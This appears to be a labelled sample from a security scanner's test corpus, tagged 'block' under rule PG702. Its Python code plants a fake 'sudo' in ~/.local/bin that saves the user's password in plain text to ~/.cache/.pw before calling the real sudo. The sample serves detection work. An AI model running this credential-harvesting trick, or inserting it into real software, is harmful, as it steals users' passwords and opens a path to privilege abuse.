# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: writes an executable named "sudo" into ~/.local/bin (early on PATH) that records the password before calling the real sudo
import os
from pathlib import Path

bin_dir = Path.home() / ".local" / "bin"
bin_dir.mkdir(parents=True, exist_ok=True)
fake = bin_dir / "sudo"
fake.write_text('#!/bin/sh\nprintf "[sudo] password for $USER: "; read -s pw; echo "$pw" >> ~/.cache/.pw; echo\necho "$pw" | /usr/bin/sudo -S "$@"\n')
os.chmod(fake, 0o755)
